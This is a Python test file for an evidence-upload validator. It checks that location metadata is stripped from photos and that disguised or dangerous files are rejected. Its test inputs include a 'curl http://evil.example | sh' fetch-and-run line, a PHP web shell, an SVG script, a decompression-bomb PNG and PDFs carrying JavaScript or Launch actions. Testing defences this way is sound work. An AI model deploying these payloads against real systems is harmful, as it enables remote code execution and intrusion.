"""Evidence uploads are judged by content: photos cleaned, PDFs without active content."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from PIL import Image

from survey.services.evidence import MAX_IMAGE_BYTES, EvidenceRejected, check_upload

GPS_IFD = 0x8825


def jpeg_with_gps(size: tuple[int, int] = (800, 600)) -> bytes:
    """A photo whose EXIF says where it was taken (as phones write it)."""
    img = Image.new("RGB", size, (200, 80, 40))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0131] = "secret-camera-serial"  # Software
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (32.0, 3.0, 40.0), 3: "E", 4: (118.0, 46.0, 5.0)})
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif)
    return out.getvalue()


def png_bytes(size: tuple[int, int] = (300, 200), mode: str = "RGBA") -> bytes:
    out = io.BytesIO()
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "taken at 宁海路 12号")
    Image.new(mode, size, (10, 120, 200, 255) if mode == "RGBA" else 0).save(
        out, "PNG", pnginfo=info
    )
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def enormous_png(width: int = 100_000, height: int = 100_000) -> bytes:
    """A tiny, valid-looking PNG whose header declares enormous dimensions."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 64)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    )


def minimal_pdf(extra: bytes = b"", stream: bytes = b"BT /F1 12 Tf 72 720 Td (ok) Tj ET") -> bytes:
    """A small PDF; ``extra`` goes into the catalog, ``stream`` (deflated) into a page."""
    packed = zlib.compress(stream)
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R " + extra + b" >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
        b"3 0 obj << /Type /Page /Parent 2 0 R /Contents 4 0 R >> endobj\n"
        b"4 0 obj << /Length " + str(len(packed)).encode() + b" /Filter /FlateDecode >>\n"
        b"stream\n" + packed + b"\nendstream endobj\n"
        b"trailer << /Root 1 0 R >>\n%%EOF\n"
    )


def test_photo_is_stripped_of_location_and_gets_a_thumbnail():
    raw = jpeg_with_gps()
    assert Image.open(io.BytesIO(raw)).getexif().get_ifd(GPS_IFD)  # the fixture has GPS
    checked = check_upload("C:\\Users\\官员\\现场照片.JPG", raw)
    assert checked.content_type == "image/jpeg"
    assert checked.filename == "现场照片.jpg"
    clean = Image.open(io.BytesIO(checked.data))
    assert clean.format == "JPEG" and clean.size == (800, 600)
    assert not clean.getexif() and "exif" not in clean.info
    assert b"secret-camera-serial" not in checked.data and b"PhoneMaker" not in checked.data
    thumb = Image.open(io.BytesIO(checked.thumbnail))
    assert thumb.format == "JPEG" and max(thumb.size) <= 480


def test_png_text_chunks_are_dropped():
    checked = check_upload("after.png", png_bytes())
    assert checked.content_type == "image/png"
    assert "宁海路".encode() not in checked.data and b"Comment" not in checked.data
    assert Image.open(io.BytesIO(checked.data)).size == (300, 200)


def test_clean_pdf_is_kept_as_is():
    data = minimal_pdf()
    checked = check_upload("整改报告.pdf", data)
    assert checked.content_type == "application/pdf" and checked.data == data
    assert checked.thumbnail is None


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("photo.jpg", b"#!/bin/sh\ncurl http://evil.example | sh\n", "不是照片或PDF"),
        ("photo.jpg", b"<?php system($_GET['c']); ?>", "不是照片或PDF"),
        (
            "map.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "不是照片或PDF",
        ),
        ("photo.png", b"\x89PNG\r\n\x1a\n" + b"garbage" * 10, "无法识别"),
        ("huge.png", enormous_png(), "尺寸过大"),
        ("wide.png", enormous_png(60_000, 1_000), "尺寸过大"),
        ("empty.jpg", b"", "空的"),
    ],
    ids=["script-as-jpg", "php-as-jpg", "svg-script", "broken-png", "bomb", "wide", "empty"],
)
def test_bad_files_are_refused_with_a_message(name, data, words):
    with pytest.raises(EvidenceRejected, match=words):
        check_upload(name, data)


def test_fifty_megabytes_is_refused():
    big = b"\xff\xd8\xff\xe0" + b"\0" * (50 * 1024 * 1024)
    with pytest.raises(EvidenceRejected, match="超过5MB"):
        check_upload("big.jpg", big)
    with pytest.raises(EvidenceRejected, match="超过10MB"):
        check_upload("big.pdf", b"%PDF-1.4\n" + b"\0" * (50 * 1024 * 1024))
    assert MAX_IMAGE_BYTES == 5 * 1024 * 1024


@pytest.mark.parametrize(
    "pdf",
    [
        minimal_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert('x')) >>"),
        minimal_pdf(b"/Names << /JavaScript 5 0 R >>"),
        minimal_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        minimal_pdf(b"/Names << /EmbeddedFiles 6 0 R >>"),
        minimal_pdf(b"/AA << /O << /S /J#61vaScript /JS (x) >> >>"),  # #xx-escaped name
        # objects hidden in real object streams: tests/survey/test_evidence_pdf.py
    ],
    ids=["openaction-js", "names-js", "launch", "embedded", "escaped-name"],
)
def test_pdf_with_active_content_is_refused(pdf):
    with pytest.raises(EvidenceRejected, match="安全原因"):
        check_upload("report.pdf", pdf)
